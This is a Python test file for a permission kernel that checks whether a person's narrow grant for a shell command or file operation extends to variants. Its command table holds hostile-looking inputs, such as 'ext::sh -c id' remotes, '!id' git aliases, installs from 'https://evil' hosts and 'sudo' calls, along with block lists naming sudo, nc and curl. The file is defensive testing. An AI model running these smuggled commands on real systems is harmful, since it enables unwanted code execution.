"""Grants are narrow: what a person allowed for good is covered, and nothing that does more or something else."""

from __future__ import annotations

import shlex
from dataclasses import dataclass, replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wap_kernel.operations import (
    CopyFile,
    DeleteFile,
    DescribeWorkspace,
    InsertLines,
    ListFiles,
    ModifyFile,
    MoveFile,
    Operation,
    RunCommand,
    WriteFile,
)
from wap_kernel.policy import presets
from wap_kernel.policy.decision import Answer, Facts, Verdict, decide, grant_for, touches
from wap_kernel.policy.effective import Effective
from wap_kernel.policy.grants import WIDE, Grant
from wap_kernel.policy.model import CommandRule, NetworkPolicy, Policy, ShellPolicy

LINKS = {"link.txt": "important.py", "here": "sub"}
"""What the paths of the workspace resolve to."""


def facts(operation: Operation, links: dict[str, str]) -> Facts:
    return Facts(
        touches=tuple(touch.at(links.get(touch.path, touch.path)) for touch in touches(operation)),
        confined=True,
        resolve=lambda name: f"/usr/bin/{name}" if "/" not in name else None,
        home="/home/u",
        root="/home/u/ws",
    )


def verdict(operation: Operation, *layers: Policy, grants: tuple[Grant, ...] = (), **links: str) -> Verdict:
    return decide(operation, Effective(layers), facts(operation, {**LINKS, **links}), grants)


def grantable(operation: Operation, *layers: Policy) -> Grant | None:
    return grant_for(operation, Effective(layers), facts(operation, LINKS))


def granted(operation: Operation, *layers: Policy) -> Grant:
    """As it comes back from the state folder."""
    grant = grantable(operation, *layers)
    assert grant is not None
    return Grant.model_validate_json(grant.model_dump_json())


def run(command: str, **more: Any) -> RunCommand:
    return RunCommand(command=command, **more)


def write(path: str, content: bytes = b"12345", **more: Any) -> WriteFile:
    return WriteFile(path=path, content=content, **more)


def move(source: str, destination: str, **more: Any) -> MoveFile:
    return MoveFile(source=source, destination=destination, **more)


def shell(*rules: CommandRule, **fields: Any) -> Policy:
    return Policy(name="layer", shell=ShellPolicy(rules=rules, **fields))


def rule(command: str, answer: str, **more: Any) -> CommandRule:
    return CommandRule(command=command, verdict=Answer(answer), **more)


FILES = Policy(confirmation_required=("writeFile", "deleteFile", "moveFile", "copyFile", "listFiles"))
ASKING = shell(*(rule(program, "allow") for program in ("ls", "cat", "echo", "cd", "find")), unknown=Answer.ASK)
EDIT = ModifyFile(path="a", changes=(InsertLines(after_line=0, new_content="x"),))


# -- paths

PATHS: list[tuple[Operation, Operation, bool]] = [
    # what a person allowed for good, what is asked then, whether that is allowed
    (write("a"), write("a", b"other"), True),
    (write("a"), write("b"), False),
    (write("a"), EDIT, False),
    (EDIT, write("a"), False),
    (write("link.txt"), write("important.py"), True),
    (write("a", mode="overwrite"), write("a", mode="append"), True),
    (write("a", mode="append"), write("a", mode="create"), True),
    (write("a", mode="append"), write("a", mode="overwrite"), False),
    (write("a", mode="create"), write("a", mode="append"), False),
    (write("a", mode="create"), write("a", mode="overwrite"), False),
    (move("a", "b"), move("b", "a"), False),
    (move("a", "b"), move("a", "b", overwrite=True), False),
    (move("a", "b", overwrite=True), move("a", "b"), True),
    (move("a", "b"), CopyFile(source="a", destination="b"), False),
    (DeleteFile(path="a"), DeleteFile(path="a", recursive=True), False),
    (DeleteFile(path="a", recursive=True), DeleteFile(path="a"), True),
    (ListFiles(path="a"), ListFiles(path="a", recursive=True), False),
]


@pytest.mark.parametrize(("allowed", "asked", "covers"), PATHS)
def test_a_grant_is_for_one_kind_of_operation_on_one_path(allowed: Operation, asked: Operation, covers: bool) -> None:
    grant = granted(allowed, FILES)
    assert verdict(allowed, FILES, grants=(grant,)).answer is Answer.ALLOW
    assert (verdict(asked, FILES, grants=(grant,)).answer is Answer.ALLOW) is covers


def test_a_path_that_became_a_link_is_another_path() -> None:
    grant = granted(write("a"), FILES)
    assert verdict(write("a"), FILES, grants=(grant,)).answer is Answer.ALLOW
    assert verdict(write("a"), FILES, grants=(grant,), a="important.py").answer is Answer.ASK


# -- commands

COMMANDS = """
    git push origin main            | git push origin main             | yes
    git push origin main            | git push 'origin' "main"         | yes
    git push origin main            | git push origin other            | no
    git push origin main            | git push origin +main            | no
    git push origin main            | git push origin :main            | no
    git push origin main            | git push evil main               | no
    git push origin main            | git push https://evil/x main     | no
    git push origin main            | git push 'ext::sh -c id' main    | no
    git push origin main            | git push --force origin main     | no
    git push origin main            | git push -f                      | no
    git push                        | git push origin main             | no
    git push --exec a               | git push --exec b                | no
    git push -o a                   | git push -o b                    | no
    git push                        | ls && git push                   | yes
    git push                        | git push $X                      | no
    git push                        | git push *                       | no
    git push                        | git push $(ls)                   | no
    git push                        | X=1 git push                     | no
    git push                        | git -c core.sshCommand=x push    | no
    git push                        | git -C sub push                  | no
    git push                        | timeout 5 git push               | no
    timeout 5 git push              | timeout 5 git push               | yes
    timeout 5 git push              | git push                         | no
    git fetch origin main           | git fetch origin topic/one       | yes
    git fetch origin main           | git fetch origin                 | no
    git fetch origin main           | git fetch evil main              | no
    git fetch origin main           | git fetch origin main:main       | no
    git fetch origin main           | git fetch origin +main           | no
    git fetch origin main           | git fetch --prune origin main    | no
    git fetch origin main           | git fetch origin main --prune    | no
    git fetch origin main           | git fetch --upload-pack x origin | no
    git fetch -q origin main        | git fetch origin main topic -q   | yes
    git fetch origin                | git fetch evil                   | no
    git fetch origin                | git fetch 'ext::sh -c id%' x     | no
    git pull origin main            | git pull origin topic            | yes
    git pull origin main            | git pull ./evil topic            | no
    git pull origin main            | git pull --rebase origin main    | no
    git add a.py                    | git add src/b.py .gitignore      | yes
    git add a.py                    | git add ../b.py                  | no
    git add a.py                    | git add -f a.py                  | no
    git add a.py                    | git add -A                       | no
    git add a.py                    | git add ':(exclude)a.py'         | no
    git add a.py                    | git add -- a.py                  | no
    git commit -m 'one thing'       | git commit -m 'another; $(id)'   | yes
    git commit -m one               | git commit -m --amend            | yes
    git commit -m one               | git commit -m one --amend        | no
    git commit -m one               | git commit -am one               | no
    git commit -m one               | git commit -m one --author=x     | no
    git commit -m one               | git commit -F secret             | no
    git commit -m one               | git commit                       | no
    git rebase -x true HEAD         | git rebase -x true HEAD          | yes
    git rebase -x true HEAD         | git rebase -x 'touch PWNED' HEAD | no
    git rebase HEAD                 | git rebase HEAD -x true          | no
    git submodule update            | git submodule foreach id         | no
    git bisect log                  | git bisect run ./evil.sh         | no
    git stash push                  | git stash clear                  | no
    git reset -q HEAD               | git reset -q HEAD~5              | no
    git remote add x https://a/b    | git remote add x https://evil    | no
    git remote add x https://a/b    | git remote set-url x https://a/b | no
    git config user.name x          | git config alias.x '!id'         | no
    uv run pytest                   | uv run ./evil.sh                 | no
    uv run pytest                   | uv run pytest                    | yes
    poetry run pytest               | poetry run rm x                  | no
    conda run ls                    | conda run evil                   | no
    docker run hello                | docker run evil                  | no
    docker exec a ls                | docker exec a rm x               | no
    npm exec cowsay                 | npm exec evil                    | no
    npm install                     | npm install evil                 | no
    npm install a                   | npm install                      | no
    npm install a                   | npm install b@1.2 c              | yes
    npm install a                   | npm install ../x                 | no
    npm install a                   | npm install x/y                  | no
    npm install a                   | npm install x.tgz                | no
    npm install a                   | npm install -g a                 | no
    pip install numpy               | pip install pandas scipy==1.2    | yes
    pip install numpy               | pip3 install numpy               | no
    pip install numpy               | pip install -U numpy             | no
    pip install -U numpy            | pip install pandas -U            | yes
    pip install numpy               | pip install git+https://evil/x   | no
    pip install numpy               | pip install x@evil               | no
    pip install numpy               | pip install x@1                  | no
    pip install numpy               | pip install ./evil               | no
    pip install numpy               | pip install evil.zip             | no
    pip install numpy               | pip install evil==1.zip          | no
    pip install numpy               | pip install -i https://evil x    | no
    pip install numpy               | pip install -e x                 | no
    pip install numpy               | pip install -r x                 | no
    pip install numpy               | pip install numpy > out.txt      | no
    pip install numpy               | pip install numpy 2>&1 \\| cat   | yes
    pip install -i https://good x   | pip install -i https://evil x    | no
    pip install -i https://good x   | pip install -i https://good y    | no
    pip install -r a.txt            | pip install -r evil.txt          | no
    conda install -y a=1.2          | conda install -y b               | yes
    conda install a                 | conda install evil::a            | no
    rm -r a                         | rm -r a                          | yes
    rm -r a                         | rm -r b                          | no
    rm a.txt                        | rm 'a.txt'                       | yes
    rm a.txt                        | rm a.txt b.txt                   | no
    rm a.txt                        | rm a.txt > b                     | no
    rm a.txt                        | rm a.txt > /dev/null 2>&1        | yes
    rm a.txt                        | cd sub && rm a.txt               | no
    rm a.txt                        | command cd sub; rm a.txt         | no
    rm a.txt                        | pushd sub; rm a.txt              | no
    rm a.txt                        | env -C sub rm a.txt              | no
    rm a.txt                        | find . -execdir rm a.txt ';'     | no
    rm a.txt                        | for x in y; do rm a.txt; done    | no
    rm a.txt                        | echo a.txt \\| xargs rm          | no
    ls && rm b.txt                  | rm b.txt                         | yes
    ls && rm b.txt                  | rm b.txt; rm a.txt               | no
    frob > out.txt                  | frob > out.txt                   | yes
    frob > out.txt                  | frob > other.txt                 | no
    frob > out.txt                  | frob >> out.txt                  | no
    frob > out.txt                  | frob < out.txt                   | no
    frob > out.txt                  | frob                             | no
    frob                            | frob <<< x                       | no
    frob                            | cat x \\| frob                   | no
    frob                            | frob \\| cat                     | yes
    frob                            | frob \\|\\| cat                  | yes
    /usr/bin/frob                   | frob                             | no
"""
ROWS = [[cell.strip().replace("\\|", "|") for cell in row.split(" | ")] for row in COMMANDS.strip().splitlines()]


@pytest.mark.parametrize(("allowed", "asked", "covers"), ROWS)
def test_a_grant_is_for_one_form_of_a_command(allowed: str, asked: str, covers: str) -> None:
    layer = replace_unanalysable(ASKING, Answer.ALLOW)  # so that only the grant decides
    grant = granted(run(allowed), layer)
    assert verdict(run(allowed), layer, grants=(grant,)).answer is Answer.ALLOW
    assert verdict(run(asked), layer).answer is Answer.ASK
    assert verdict(run(asked), layer, grants=(grant,)).answer is (Answer.ALLOW if covers == "yes" else Answer.ASK)


def replace_unanalysable(policy: Policy, answer: Answer) -> Policy:
    return policy.model_copy(update={"shell": policy.shell.model_copy(update={"unanalysable": answer})})


@pytest.mark.parametrize("command", ["rm a", "pip install numpy"])
def test_a_grant_is_for_one_folder_and_no_variables(command: str) -> None:
    grants = (granted(run(command, cwd="sub"), ASKING),)
    assert verdict(run(command, cwd="sub"), ASKING, grants=grants).answer is Answer.ALLOW
    assert verdict(run(command, cwd="here"), ASKING, grants=grants).answer is Answer.ALLOW  # a link to it
    assert verdict(run(command, cwd="sub"), ASKING, grants=grants, sub="other").answer is Answer.ASK
    assert verdict(run(command), ASKING, grants=grants).answer is Answer.ASK
    assert verdict(run(command, cwd="sub", environment={"A": "1"}), ASKING, grants=grants).answer is Answer.ASK


@pytest.mark.parametrize(
    "command",
    [
        *("rm $X", "rm *", "frob ~/x", "frob > ~/x", "rm $(ls)", "X=1 frob", "cd sub && frob", "ls | frob"),
        *("frob <<EOF\nx\nEOF", "bash -c 'frob x'", "echo a | xargs frob", "find . -exec frob {} +"),
        *(
            "uv run sudo id",
            "uv run /usr/bin/sudo id",
            "uv run SUDO id",
            "uv run sh -c 'ls;sudo id'",
            "ls; uv run sudo",
        ),
    ],
)
def test_what_cannot_be_granted(command: str) -> None:
    layer = replace_unanalysable(ASKING, Answer.ALLOW)
    layer = layer.model_copy(update={"shell": layer.shell.model_copy(update={"blocked_commands": ("sudo", "nc.*")})})
    assert verdict(run(command), layer).answer is Answer.ASK
    assert not verdict(run(command), layer).grantable
    assert grantable(run(command), layer) is None


def test_a_program_that_is_blocked_later_takes_the_grant_along() -> None:
    grants = (granted(run("uv run curl x"), ASKING),)
    blocking = shell(blocked_commands=("curl",))
    assert verdict(run("uv run curl x"), ASKING, grants=grants).answer is Answer.ALLOW
    assert verdict(run("uv run curl x"), ASKING, blocking, grants=grants).answer is Answer.ASK


def test_words_for_people_name_no_program() -> None:
    standard = presets.load("standard")
    grant = granted(run("git commit -m one"), standard)
    assert verdict(run("git commit -m 'No mount over ssh'"), standard, grants=(grant,)).answer is Answer.ALLOW


def test_a_confirmed_command_is_granted_like_one_that_a_rule_asks_about() -> None:
    confirming = Policy(confirmation_required=("runCommand",))
    grants = (granted(run("ls"), confirming),)
    assert verdict(run("ls"), confirming, grants=grants).answer is Answer.ALLOW
    assert verdict(run("ls; cat x"), confirming, grants=grants).answer is Answer.ASK
    assert verdict(run("X=1 ls"), confirming, grants=grants).answer is Answer.ASK


def test_a_granted_command_keeps_its_network() -> None:
    layer = shell(rule("git push", "ask", network=True)).model_copy(update={"network": NetworkPolicy(access="none")})
    found = verdict(run("git push"), layer, grants=(granted(run("git push"), layer),))
    assert (found.answer, found.rule, found.network) == (Answer.ALLOW, "grant", True)


def test_grants_add_up() -> None:
    both = run("git push && rm a")
    grants = (granted(run("rm a"), ASKING), granted(run("git push"), ASKING))
    assert verdict(both, ASKING, grants=grants).answer is Answer.ALLOW
    assert verdict(both, ASKING, grants=grants[:1]).answer is Answer.ASK


def test_a_grant_never_undoes_a_denial_nor_a_rule_that_is_not_grantable() -> None:
    grant = granted(run("git push"), ASKING)
    denying = shell(rule("git push", "deny"))
    insisting = shell(rule("git push", "ask", grantable=False))
    assert verdict(run("git push"), ASKING, denying, grants=(grant,)).answer is Answer.DENY
    for layers in ((insisting,), (ASKING, insisting)):
        found = verdict(run("git push"), *layers, grants=(grant,))
        assert (found.answer, found.grantable) == (Answer.ASK, False)
        assert grantable(run("git push"), *layers) is None


def test_there_is_no_grant_for_what_needs_none_or_names_no_path() -> None:
    assert grantable(run("ls"), ASKING) is None
    assert grantable(DescribeWorkspace(), Policy(confirmation_required=("getWorkspaceInfo",))) is None


@pytest.mark.parametrize(
    ("operation", "text"),
    [
        (run("rm 'a b'"), "rm 'a b'"),
        (run("frob x > out.txt", cwd="here"), "frob x > out.txt (in sub)"),
        (run("pip install numpy -U"), "pip install -U ..."),
        (run("git fetch origin main && git push"), "git fetch origin ..., git push"),
        (write("link.txt", mode="append"), "writeFile important.py (append)"),
        (DeleteFile(path="a"), "deleteFile a"),
        (move("a", "b", overwrite=True), "moveFile a, b (overwrite)"),
    ],
)
def test_it_says_what_it_allows(operation: Operation, text: str) -> None:
    assert granted(operation, ASKING, FILES).text == text


def test_the_forms_of_earlier_versions_load_and_allow_no_more_than_they_said() -> None:
    wide = '{"kind":"command","operation":"runCommand","commands":[{"words":["git","push"],"options":[],"cwd":null}]}'
    words = '{"kind":"command","operation":"runCommand","commands":[{"words":["rm","a"],"options":null,"cwd":"."}]}'
    path = '{"kind":"path","operation":"writeFile","paths":["a"],"commands":[]}'
    grants = tuple(map(Grant.model_validate_json, (wide, words, path)))
    assert [grant.text for grant in grants] == [
        "git push ... (of an earlier version, asks again)",
        "rm a",
        "writeFile a",
    ]
    assert verdict(run("git push"), ASKING, grants=grants).answer is Answer.ASK
    assert verdict(run("rm a"), ASKING, grants=grants).answer is Answer.ALLOW
    assert verdict(run("rm a > b"), ASKING, grants=grants).answer is Answer.ASK
    assert verdict(write("a", mode="create"), FILES, grants=grants).answer is Answer.ALLOW
    assert verdict(write("a"), FILES, grants=grants).answer is Answer.ASK


# -- the law


@dataclass(frozen=True)
class Line:
    """A command that is run in some way."""

    words: tuple[str, ...]
    redirect: str = ""
    cwd: str = "."
    before: str = ""
    after: str = ""

    @property
    def operation(self) -> RunCommand:
        return run(f"{self.before}{shlex.join(self.words)}{self.redirect}{self.after}", cwd=self.cwd)

    @property
    def context(self) -> tuple[str, ...]:
        """All that is not the words, but for what changes nothing."""
        harmless = ("", "ls && ", "ls; ")
        return (self.redirect, self.cwd, "" if self.before in harmless else self.before)

    @property
    def options(self) -> set[str]:
        return {word for word in self.words if word.startswith("-")}

    @property
    def is_wide(self) -> bool:
        """Of one of the few pairs, with operands that are nothing but names."""
        operands = [word for word in self.words[2:] if not word.startswith("-")]
        return self.words[:2] in WIDE and all(
            word.replace("=", "").replace("-", "").replace(".", "").isalnum() for word in operands
        )


programs = st.sampled_from([*(("git", sub) for sub in "add commit fetch pull push rebase".split())]) | st.sampled_from(
    [("pip", "install"), ("npm", "install"), ("uv", "run"), ("uv", "add"), ("rm",), ("frob",), ("docker", "exec")]
)
rest = st.sampled_from(
    "origin main a b -x -m -q -U -i --force --rebase --exec=x -- +main :main a:b ext::sh ../a ./a a.zip a@b "
    "https://evil/x x==1.2 id".split()
)
lines = st.builds(
    Line,
    words=st.builds(lambda program, more: (*program, *more), programs, st.lists(rest, max_size=3)),
    redirect=st.sampled_from(["", "", " > out", " >> out", " < in"]),
    cwd=st.sampled_from([".", ".", "sub"]),
    before=st.sampled_from(["", "", "", "ls && ", "ls; ", "cd sub && ", "env -C sub ", "timeout 5 ", "cat a | "]),
    after=st.sampled_from(["", "", " | cat", " && ls", " <<< x"]),
)


@st.composite
def pairs(draw: st.DrawFn) -> tuple[Line, Line]:
    """Two lines, most often nearly the same."""
    one = draw(lines)
    other = draw(lines)
    for name in ("words", "redirect", "cwd", "before", "after"):
        if draw(st.booleans()):
            other = replace(other, **{name: getattr(one, name)})
    if draw(st.booleans()):
        other = replace(other, words=(*one.words[:2], *draw(st.lists(rest, max_size=3))))
    return one, other


@given(pairs())
def test_a_grant_covers_the_same_words_or_other_names_after_a_wide_pair(pair: tuple[Line, Line]) -> None:
    one, other = pair
    grant = grantable(one.operation, ASKING)
    if grant is None:
        return
    assert verdict(one.operation, ASKING, grants=(grant,)).answer is Answer.ALLOW
    found = verdict(other.operation, ASKING, grants=(grant,))
    if found.answer is Answer.ALLOW:
        assert one.context == other.context
        similar = one.words[:2] == other.words[:2] and one.options == other.options
        assert one.words == other.words or (similar and one.is_wide and other.is_wide)


@given(lines)
def test_the_same_line_is_covered_by_its_own_grant(line: Line) -> None:
    grant = grantable(line.operation, ASKING)
    assert verdict(line.operation, ASKING).grantable is (grant is not None)
    if grant is not None:
        assert verdict(line.operation, ASKING, grants=(grant,)).answer is Answer.ALLOW
